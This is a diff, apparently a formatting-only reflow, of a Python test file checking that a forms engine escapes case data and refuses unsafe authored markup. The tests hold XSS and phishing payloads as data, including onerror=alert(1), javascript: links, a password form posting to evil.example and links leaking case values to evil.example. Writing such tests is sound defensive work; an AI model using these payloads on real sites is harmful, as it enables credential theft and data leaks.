@@ -1,6 +1,7 @@
 """Case data never becomes markup: the server renders a form's text and html components itself, with the
 case values in them escaped, so the page is safe whatever form-js does with a text (engine/forms/content.py).
 The same payloads in Chromium: tests/web/test_case_data_as_text_browser.py."""
+
 from __future__ import annotations
 
 import io
@@ -31,9 +32,13 @@ def _markup_of(config) -> str:
 
 
 def test_a_case_value_in_a_text_template_arrives_escaped():
-    html = render_text("### Besluit\n{{decision_motivation}}", {"decision_motivation": PAYLOAD + "\n**vet** [x](https://evil.example)"})
+    html = render_text(
+        "### Besluit\n{{decision_motivation}}", {"decision_motivation": PAYLOAD + "\n**vet** [x](https://evil.example)"}
+    )
     assert "<a " not in html and "<img" not in html and "<strong>" not in html
-    assert "&lt;a href=&quot;https://evil.example/login&quot;&gt;klik&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;" in html
+    assert (
+        "&lt;a href=&quot;https://evil.example/login&quot;&gt;klik&lt;/a&gt;&lt;img src=x onerror=alert(1)&gt;" in html
+    )
     assert "**vet** [x](https://evil.example)" in html  # its Markdown is text too
     assert html.startswith("<h3>Besluit</h3>")
 
@@ -46,20 +51,27 @@ def test_a_case_value_cannot_become_a_template_or_an_attribute():
 
 
 def test_authored_markup_is_sanitised_and_only_a_small_markdown_is_read():
-    html = render_html('<p onclick="steal()">Hallo</p><form action="https://evil.example"><input name="a"></form>'
-                       '<script>alert(1)</script><a href="javascript:alert(1)">x</a><a href="https://bzk.nl">y</a>', {})
-    assert html == ('<p>Hallo</p><a rel="noopener noreferrer">x</a>'
-                    '<a href="https://bzk.nl" rel="noopener noreferrer">y</a>')
+    html = render_html(
+        '<p onclick="steal()">Hallo</p><form action="https://evil.example"><input name="a"></form>'
+        '<script>alert(1)</script><a href="javascript:alert(1)">x</a><a href="https://bzk.nl">y</a>',
+        {},
+    )
+    assert html == (
+        '<p>Hallo</p><a rel="noopener noreferrer">x</a><a href="https://bzk.nl" rel="noopener noreferrer">y</a>'
+    )
     text = render_text("**vet** *schuin*\n- een\n\n<b>rauw</b> ![beeld](https://evil.example/x.png)", {})
     assert "<strong>vet</strong> <em>schuin</em>" in text and "<li>een</li>" in text
     assert "&lt;b&gt;rauw&lt;/b&gt;" in text and "<img" not in text
 
 
 def test_templates_of_the_form_itself_and_blocks_are_left_to_form_js():
-    schema = {"components": [
-        {"type": "text", "id": "t1", "text": "{{note}} {{case_value}}"},
-        {"type": "text", "id": "t2", "text": "{{#if x}}{{case_value}}{{/if}}"},
-        {"type": "group", "components": [{"type": "html", "id": "h", "content": "<p>{{case_value}}</p>"}]}]}
+    schema = {
+        "components": [
+            {"type": "text", "id": "t1", "text": "{{note}} {{case_value}}"},
+            {"type": "text", "id": "t2", "text": "{{#if x}}{{case_value}}{{/if}}"},
+            {"type": "group", "components": [{"type": "html", "id": "h", "content": "<p>{{case_value}}</p>"}]},
+        ]
+    }
     safe = safe_schema(schema, {"case_value": "<b>x</b>", "note": "oud"}, own_keys={"note"})
     first, second, group = safe["components"]
     assert first == {"type": "html", "id": "t1", "content": "<p>{{note}} &lt;b&gt;x&lt;/b&gt;</p>"}
@@ -71,8 +83,11 @@ def test_templates_of_the_form_itself_and_blocks_are_left_to_form_js():
 def test_the_task_page_carries_the_payload_as_text_only(app, browser_for):
     with app.app_context():
         deploy_folders([FIXTURES / "case_text"], actor="test")
-        case = start_case("case_text", {"summary": PAYLOAD, "municipality_code": "GM0668", "motivation": PAYLOAD},
-                          Actor.for_user(get_user("gemeente.westbetuwe")))
+        case = start_case(
+            "case_text",
+            {"summary": PAYLOAD, "municipality_code": "GM0668", "motivation": PAYLOAD},
+            Actor.for_user(get_user("gemeente.westbetuwe")),
+        )
         task_id = db.session.scalar(sa.select(HumanTask.id).where(HumanTask.instance_id == case.id))
     client = browser_for("gemeente.westbetuwe")
     page = client.get(f"/tasks/{task_id}").get_data(as_text=True)
@@ -91,24 +106,36 @@ def test_the_task_page_carries_the_payload_as_text_only(app, browser_for):
 
 
 def _deploy(owner, name, content):
-    return owner.post("/api/v1/deployments", data={"files": (io.BytesIO(content.encode()), name)},
-                      content_type="multipart/form-data")
+    return owner.post(
+        "/api/v1/deployments", data={"files": (io.BytesIO(content.encode()), name)}, content_type="multipart/form-data"
+    )
 
 
 def _form(*components):
-    return json.dumps({"id": "probe_form", "type": "default", "components": [
-        {"type": "textfield", "key": "a", "label": "A"}, *components]}, indent=2)
+    return json.dumps(
+        {
+            "id": "probe_form",
+            "type": "default",
+            "components": [{"type": "textfield", "key": "a", "label": "A"}, *components],
+        },
+        indent=2,
+    )
 
 
 def test_an_authored_form_with_an_external_form_action_or_a_script_is_refused_at_deploy(as_user):
     owner = as_user("procesbeheerder")
     cases = {
-        '<p>Log in</p><form action="https://evil.example/login"><input name="pw"></form>':
-            ("a <form> that sends to https://evil.example/login", "Remove the <form> element"),
+        '<p>Log in</p><form action="https://evil.example/login"><input name="pw"></form>': (
+            "a <form> that sends to https://evil.example/login",
+            "Remove the <form> element",
+        ),
         "<p>Hallo</p><script>fetch('/api/v1/process-instances')</script>": ("<script> is not allowed", "scripts"),
         '<img src="x" onerror="alert(1)">': ('event handler onerror="..." on <img>', "Remove the attribute"),
         '<a href="javascript:alert(1)">klik</a>': ('href="javascript:alert(1)"', "https: page"),
-        '<a href="https://example.org/?q={{home_address}}">klik</a>': ("a value from the case inside <a>", "only as text"),
+        '<a href="https://example.org/?q={{home_address}}">klik</a>': (
+            "a value from the case inside <a>",
+            "only as text",
+        ),
     }
     for content, expected in cases.items():
         form = _form({"type": "html", "id": "Html_probe", "content": content})
@@ -123,9 +150,17 @@ def test_an_authored_form_with_an_external_form_action_or_a_script_is_refused_at
     text = _deploy(owner, "probe.form", _form({"type": "text", "id": "Text_probe", "text": "Zie <b>hier</b>"}))
     assert text.status_code == 422
     assert "Write Markdown" in text.get_json()["errors"][0]["message"]
-    assert _deploy(owner, "probe.form", _form({"type": "text", "id": "Text_probe", "text": "**Zie** {{a}}"},
-                                              {"type": "html", "id": "Html_ok", "content": "<p>{{a}}</p>"})
-                   ).status_code == 201
+    assert (
+        _deploy(
+            owner,
+            "probe.form",
+            _form(
+                {"type": "text", "id": "Text_probe", "text": "**Zie** {{a}}"},
+                {"type": "html", "id": "Html_ok", "content": "<p>{{a}}</p>"},
+            ),
+        ).status_code
+        == 201
+    )
 
 
 def test_the_project_forms_pass_the_content_checks():
@@ -143,6 +178,10 @@ def test_a_case_value_in_the_query_of_a_link_to_this_app_is_percent_encoded():
     shown = render_text(link, {"evaluation_year": '2025"><img src=x onerror=alert(1)>'})
     assert 'href="/reports/vangnet?year=2025%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert%281%29%3E"' in shown
     assert "<img" not in shown
-    for refused in ("[R](https://evil.example/?q={{y}})", "[R](//evil.example/?q={{y}})", "[R](/x/{{y}}?a=1)",
-                    "[R]({{y}})"):
+    for refused in (
+        "[R](https://evil.example/?q={{y}})",
+        "[R](//evil.example/?q={{y}})",
+        "[R](/x/{{y}}?a=1)",
+        "[R]({{y}})",
+    ):
         assert text_problem(refused), refused
